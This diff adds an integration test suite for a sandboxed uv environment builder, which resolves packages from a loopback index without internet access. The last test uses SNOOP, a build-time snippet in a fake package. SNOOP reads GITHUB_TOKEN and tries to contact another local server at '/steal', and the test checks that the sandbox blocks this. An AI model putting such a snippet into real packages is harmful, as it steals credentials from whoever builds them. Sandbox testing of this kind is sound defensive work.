@@ -1,0 +1,259 @@
+import { chmodSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { EnvSpec, Requirement } from '../../src/env/types.js';
+import { UvEnvBuilder } from '../../src/env/uv-builder.js';
+import { findBinary, probeSandbox } from '../../src/exec/sandbox.js';
+import { backendSource, makeDists, startLoopbackIndex, type LoopbackIndex } from '../helpers/loopback-pypi.js';
+
+// Real uv (scripts/ensure-system.sh installs 0.13.9), real bwrap, real Python; the only index is a loopback one
+// serving distributions built here. Nothing reaches the internet.
+
+const PYTHON = '/usr/bin/python3';
+
+function req(name: string, specifier = ''): Requirement {
+  return { name, specifier, extras: [], source: 'repo', why: 'test' };
+}
+
+function spec(index: LoopbackIndex, requirements: Requirement[], extra: Partial<EnvSpec> = {}): EnvSpec {
+  return {
+    python: null,
+    pythonWhy: null,
+    requirements,
+    project: null,
+    indexUrl: index.url,
+    extraIndexUrls: [],
+    findLinks: [],
+    excludeNewer: null,
+    buildCommands: [],
+    notes: [],
+    ...extra,
+  };
+}
+
+const SNOOP = `
+import os, socket, urllib.request
+seen = {"token": os.environ.get("GITHUB_TOKEN"), "keys": sorted(os.environ)}
+def _try_direct():
+    try:
+        socket.create_connection(("127.0.0.1", OTHER_PORT), timeout=3).close()
+        return "reached"
+    except OSError as e:
+        return "blocked: %s" % e.__class__.__name__
+def _try_proxy():
+    try:
+        urllib.request.urlopen("http://127.0.0.1:%d/steal" % OTHER_PORT, timeout=5).read()
+        return "reached"
+    except Exception as e:
+        return "blocked: %s" % e.__class__.__name__
+seen["direct"] = _try_direct()
+seen["proxied"] = _try_proxy()
+INIT = "SEEN = %r\\n" % (seen,)
+`;
+
+describe('UvEnvBuilder (uv in the sandbox, a loopback index)', () => {
+  let root: string;
+  let dists: string;
+  let index: LoopbackIndex;
+  let other: Server;
+  let otherHits = 0;
+  let builder: UvEnvBuilder;
+  const signal = new AbortController().signal;
+
+  beforeAll(async () => {
+    root = mkdtempSync(join(tmpdir(), 'repgen-envbuild-'));
+    chmodSync(root, 0o711); // the sandbox's uid must reach the cache below it
+    dists = join(root, 'dists');
+    mkdirSync(dists);
+    other = createServer((_req, res) => {
+      otherHits++;
+      res.end('secret accepted');
+    });
+    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
+    const otherPort = (other.address() as AddressInfo).port;
+    makeDists(dists, [
+      { name: 'alpha', version: '1.0', requires: ['beta>=1'] },
+      { name: 'alpha', version: '2.0', requires: ['beta>=1'] },
+      { name: 'beta', version: '1.1' },
+      { name: 'beta', version: '0.9' },
+      { name: 'delta', version: '1.0', tag: 'cp38-cp38-manylinux2014_x86_64' },
+      {
+        name: 'delta',
+        version: '1.0',
+        backend: backendSource('delta', '1.0', 'raise RuntimeError("a compiled package built from source")'),
+      },
+      { name: 'delta', version: '1.2', tag: 'cp311-cp311-manylinux2014_x86_64' },
+      { name: 'delta', version: '1.3', tag: 'cp311-cp311-manylinux2014_x86_64' },
+      { name: 'broken', version: '1.0', backend: backendSource('broken', '1.0', 'raise RuntimeError("this sdist does not build here")') },
+      { name: 'nosy', version: '1.0', backend: backendSource('nosy', '1.0', SNOOP.replace(/OTHER_PORT/g, String(otherPort))) },
+    ]);
+    index = await startLoopbackIndex(dists);
+    const uv = findBinary('uv');
+    if (!uv) throw new Error('uv not found: run scripts/ensure-system.sh');
+    const plan = await probeSandbox('bwrap', { workRoot: tmpdir() });
+    builder = new UvEnvBuilder({ cacheRoot: join(root, 'cache'), uv, basePython: PYTHON, plan });
+  }, 60_000);
+
+  afterAll(async () => {
+    await index?.close();
+    await new Promise<void>((resolve) => (other ? other.close(() => resolve()) : resolve()));
+    rmSync(root, { recursive: true, force: true });
+  });
+
+  it('resolves the requirements and their dependencies from the index into a lock and a venv', async () => {
+    const result = await builder.build(spec(index, [req('alpha')]), { checkout: null, signal });
+    if (!result.ok) throw new Error(JSON.stringify(result.failure));
+    expect(result.env.pins).toEqual({ alpha: '2.0', beta: '1.1' });
+    expect(result.env.lock).toBe('alpha==2.0\nbeta==1.1\n');
+    expect(result.env.cached).toBe(false);
+    expect(result.env.python).toMatch(/\/envs\/[0-9a-f]{64}\/bin\/python$/);
+    const site = join(result.env.readOnlyPaths[0] as string, 'lib', 'python3.11', 'site-packages');
+    expect(readdirSync(site)).toEqual(expect.arrayContaining(['alpha', 'beta']));
+  });
+
+  it('reuses the venv of a lock it has built: marked cached, no request to the index', async () => {
+    const s = spec(index, [req('alpha', '>=1')]);
+    const first = await builder.build(s, { checkout: null, signal });
+    if (!first.ok) throw new Error(JSON.stringify(first.failure));
+    const before = index.requests.length;
+    const phases: string[] = [];
+    const second = await builder.build(s, { checkout: null, signal, onProgress: (p) => phases.push(p.phase) });
+    if (!second.ok) throw new Error(JSON.stringify(second.failure));
+    expect(second.env.cached).toBe(true);
+    expect(second.env.python).toBe(first.env.python);
+    expect(phases).toEqual(['reused']);
+    expect(index.requests.length).toBe(before);
+  });
+
+  it('builds a second venv of the same lock (another project layout) from uv’s cache with no request to the index', async () => {
+    const base = spec(index, [req('alpha', '>=1')]);
+    const first = await builder.build(base, { checkout: null, signal });
+    if (!first.ok) throw new Error(JSON.stringify(first.failure));
+    const before = index.requests.length;
+    const project = { root: '', importRoots: ['src'], mode: 'pth' as const, distribution: 'myproj', extensions: [] };
+    const withProject = await builder.build(
+      { ...base, project, requirements: [...base.requirements, req('myproj')] },
+      { checkout: null, signal },
+    );
+    if (!withProject.ok) throw new Error(JSON.stringify(withProject.failure));
+    expect(withProject.env.cached).toBe(false);
+    expect(withProject.env.lockHash).toBe(first.env.lockHash);
+    expect(withProject.env.python).not.toBe(first.env.python);
+    expect(index.requests.length).toBe(before);
+    const site = join(withProject.env.readOnlyPaths[0] as string, 'lib', 'python3.11', 'site-packages');
+    expect(readFileSync(join(site, '_repgen_project.pth'), 'utf8')).toBe('/workspace/src\n');
+  });
+
+  it('replaces a version the index does not have by the nearest one and says so', async () => {
+    const result = await builder.build(spec(index, [req('alpha', '==1.5')]), { checkout: null, signal });
+    if (!result.ok) throw new Error(JSON.stringify(result.failure));
+    expect(result.env.pins.alpha).toBe('1.0');
+    expect(result.env.substitutions).toEqual([expect.objectContaining({ name: 'alpha', wanted: '1.5', got: '1.0' })]);
+    const again = await builder.build(spec(index, [req('alpha', '==1.5')]), { checkout: null, signal });
+    if (!again.ok) throw new Error(JSON.stringify(again.failure));
+    expect(again.env.cached).toBe(true);
+    expect(again.env.substitutions).toEqual(result.env.substitutions);
+  });
+
+  it('moves a compiled package pinned to a version with no wheel for this Python to the nearest one with a wheel', async () => {
+    const result = await builder.build(spec(index, [req('delta', '==1.0')]), { checkout: null, signal });
+    if (!result.ok) throw new Error(JSON.stringify(result.failure));
+    expect(result.env.pins.delta).toBe('1.2');
+    expect(result.env.substitutions).toEqual([
+      expect.objectContaining({ name: 'delta', wanted: '1.0', got: '1.2', why: expect.stringMatching(/no wheel/) }),
+    ]);
+  });
+
+  it('drops a CUDA local version (2.0+cu129) for the public release of the same version', async () => {
+    const result = await builder.build(spec(index, [req('alpha', '==2.0+cu129')]), { checkout: null, signal });
+    if (!result.ok) throw new Error(JSON.stringify(result.failure));
+    expect(result.env.pins.alpha).toBe('2.0');
+    expect(result.env.substitutions).toEqual([expect.objectContaining({ name: 'alpha', wanted: '2.0+cu129', got: '2.0' })]);
+  });
+
+  it('takes a local-label wheel of a find-links folder over the index’s newer release (the CPU torch case)', async () => {
+    const local = join(root, 'wheels');
+    mkdirSync(local, { recursive: true });
+    makeDists(local, [{ name: 'beta', version: '1.0+cpu' }]);
+    chmodSync(local, 0o755);
+    const result = await builder.build(spec(index, [req('alpha')], { findLinks: [local] }), { checkout: null, signal });
+    if (!result.ok) throw new Error(JSON.stringify(result.failure));
+    expect(result.env.pins).toEqual({ alpha: '2.0', beta: '1.0+cpu' });
+  });
+
+  it('fails with the package and no substitution when nothing of that name exists', async () => {
+    const result = await builder.build(spec(index, [req('gamma', '==9.0')]), { checkout: null, signal });
+    expect(result.ok).toBe(false);
+    if (result.ok) return;
+    expect(result.failure).toMatchObject({ step: 'resolve', package: 'gamma', configKey: 'environment.packages' });
+    expect(result.failure.logTail).toContain('gamma');
+  });
+
+  it('reports a source distribution whose build fails as an EnvBuildFailure naming it', async () => {
+    const result = await builder.build(spec(index, [req('broken')]), { checkout: null, signal });
+    expect(result.ok).toBe(false);
+    if (result.ok) return;
+    expect(result.failure).toMatchObject({ step: 'install', package: 'broken', configKey: 'environment.packages' });
+    expect(result.failure.logTail).toContain('this sdist does not build here');
+  });
+
+  it('uses the machine’s Python for another version asked, and says so', async () => {
+    const result = await builder.build(spec(index, [req('beta')], { python: '3.8' }), { checkout: null, signal });
+    if (!result.ok) throw new Error(JSON.stringify(result.failure));
+    expect(result.env.pythonVersion).toMatch(/^3\.11\./);
+    expect(result.env.substitutions).toEqual([expect.objectContaining({ name: 'python', wanted: '3.8', got: '3.11' })]);
+  });
+
+  it('runs repgen.yml build commands in the new venv, and reports one that fails', async () => {
+    const ok = await builder.build(
+      spec(index, [req('beta')], { buildCommands: ['python -c "import beta" && echo built > "$VIRTUAL_ENV/marker"'] }),
+      {
+        checkout: null,
+        signal,
+      },
+    );
+    if (!ok.ok) throw new Error(JSON.stringify(ok.failure));
+    expect(readFileSync(join(ok.env.readOnlyPaths[0] as string, 'marker'), 'utf8')).toBe('built\n');
+    const bad = await builder.build(spec(index, [req('beta')], { buildCommands: ['echo nope >&2; exit 3'] }), { checkout: null, signal });
+    expect(bad.ok).toBe(false);
+    if (bad.ok) return;
+    expect(bad.failure).toMatchObject({ step: 'build-command', configKey: 'environment.build' });
+    expect(bad.failure.logTail).toContain('nope');
+  });
+
+  it('stops a build that is cancelled', async () => {
+    const aborted = AbortSignal.abort();
+    const result = await builder.build(spec(index, [req('alpha', '<2')]), { checkout: null, signal: aborted });
+    expect(result.ok).toBe(false);
+    if (result.ok) return;
+    expect(result.failure.step).toBe('timeout');
+  });
+
+  it('builds without a sandbox when the operator chose REPGEN_SANDBOX=none (no proxy, the host network)', async () => {
+    const plan = await probeSandbox('none', { workRoot: tmpdir() });
+    const bare = new UvEnvBuilder({ cacheRoot: join(root, 'cache-none'), uv: findBinary('uv') as string, basePython: PYTHON, plan });
+    const result = await bare.build(spec(index, [req('alpha')]), { checkout: null, signal });
+    if (!result.ok) throw new Error(JSON.stringify(result.failure));
+    expect(result.env.pins).toEqual({ alpha: '2.0', beta: '1.1' });
+  });
+
+  it('builds a source distribution with none of RepGen’s secrets and no way to another host', async () => {
+    process.env.GITHUB_TOKEN = 'ghs_fake_secret_for_the_test';
+    try {
+      const result = await builder.build(spec(index, [req('nosy')]), { checkout: null, signal });
+      if (!result.ok) throw new Error(JSON.stringify(result.failure));
+      const site = join(result.env.readOnlyPaths[0] as string, 'lib', 'python3.11', 'site-packages');
+      const seen = readFileSync(join(site, 'nosy', '__init__.py'), 'utf8');
+      expect(seen).toContain("'token': None");
+      expect(seen).not.toContain('ghs_fake');
+      expect(seen).toMatch(/'direct': 'blocked/);
+      expect(seen).toMatch(/'proxied': 'blocked/);
+      expect(otherHits).toBe(0);
+    } finally {
+      delete process.env.GITHUB_TOKEN;
+    }
+  });
+});
